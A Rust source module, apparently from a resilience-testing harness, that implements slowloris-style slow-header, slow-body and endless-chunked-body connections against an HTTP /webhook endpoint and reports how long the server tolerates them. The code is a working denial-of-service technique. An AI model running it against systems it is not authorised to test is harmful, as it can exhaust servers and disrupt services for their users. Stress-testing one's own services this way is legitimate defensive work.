//! Senders that mean harm: connections that never end their head or their body, a byte a second, each replaced when it is
//! hung up on. A loop over sockets, without a runtime: it must cost the machine less than what it besieges.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use clap::Args;

/// How many there are of each kind, at once.
#[derive(Args, Clone, Copy, Debug)]
pub struct Force {
    /// How many at once never end their head.
    #[arg(long, default_value_t = 0)]
    pub slow_heads: u32,
    /// How many at once never end their body.
    #[arg(long, default_value_t = 0)]
    pub slow_bodies: u32,
    /// How many at once send as much as they can of a body without end.
    #[arg(long, default_value_t = 0)]
    pub endless_bodies: u32,
}

const SLOW_HEAD: &[u8] = b"POST /webhook HTTP/1.1\r\nhost: a\r\nx-slow: ";
const SLOW_BODY: &[u8] =
    b"POST /webhook HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n{";
const ENDLESS_BODY: &[u8] =
    b"POST /webhook HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n";

/// In so many parts of a second everybody has a turn.
const SHARES: u32 = 100;

/// How long one connection may take to be made.
const PATIENCE: Duration = Duration::from_millis(200);

/// What they saw.
#[derive(Clone, Copy, Debug, Default)]
pub struct Seen {
    /// How many connections they made.
    pub opened: u64,
    /// How many of these were ended by the other side.
    pub ended: u64,
    /// How long the longest was kept.
    pub longest: Duration,
}

struct Besieger {
    head: &'static [u8],
    piece: Vec<u8>,
    open: Option<(TcpStream, Instant)>,
}

impl Besieger {
    /// One step: a connection where there is none, else one piece more.
    fn step(&mut self, address: SocketAddr, seen: &mut Seen) {
        let Some((stream, began)) = &mut self.open else {
            self.open = TcpStream::connect_timeout(&address, PATIENCE)
                .ok()
                .and_then(|mut stream| {
                    stream.write_all(self.head).ok()?;
                    stream.set_nonblocking(true).ok()?;
                    seen.opened += 1;
                    Some((stream, Instant::now()))
                });
            return;
        };
        let is_waiting = |error: &std::io::Error| error.kind() == ErrorKind::WouldBlock;
        let is_written = stream
            .write(&self.piece)
            .map_or_else(|error| is_waiting(&error), |_| true);
        let is_read = stream
            .read(&mut [0; 512])
            .map_or_else(|error| is_waiting(&error), |length| length > 0);
        if !(is_written && is_read) {
            seen.ended += 1;
            seen.longest = seen.longest.max(began.elapsed());
            self.open = None;
        }
    }
}

/// Besieges `address` for as long as `goes_on` says.
pub fn besiege(address: SocketAddr, force: Force, goes_on: impl Fn() -> bool) -> Seen {
    let endless = [b"4000\r\n".as_slice(), &[b' '; 0x4000], b"\r\n"].concat();
    let mut besiegers = Vec::new();
    for (count, head, piece) in [
        (force.slow_heads, SLOW_HEAD, b"x".to_vec()),
        (force.slow_bodies, SLOW_BODY, b" ".to_vec()),
        (force.endless_bodies, ENDLESS_BODY, endless),
    ] {
        besiegers.extend((0..count).map(|_| Besieger {
            head,
            piece: piece.clone(),
            open: None,
        }));
    }
    let mut seen = Seen::default();
    while goes_on() {
        let round = Instant::now();
        // Spread over the second, as many senders are who know nothing of each other.
        let share = besiegers.len().div_ceil(SHARES as usize).max(1);
        for (besiegers, turn) in besiegers.chunks_mut(share).zip(1..) {
            for besieger in besiegers {
                besieger.step(address, &mut seen);
            }
            if force.endless_bodies == 0 {
                let until = Duration::from_secs(1) * turn / SHARES;
                std::thread::sleep(until.saturating_sub(round.elapsed()));
            }
        }
    }
    let kept = besiegers.iter().filter_map(|besieger| besieger.open.as_ref());
    seen.longest = kept.map(|(_, began)| began.elapsed()).fold(seen.longest, Duration::max);
    seen
}
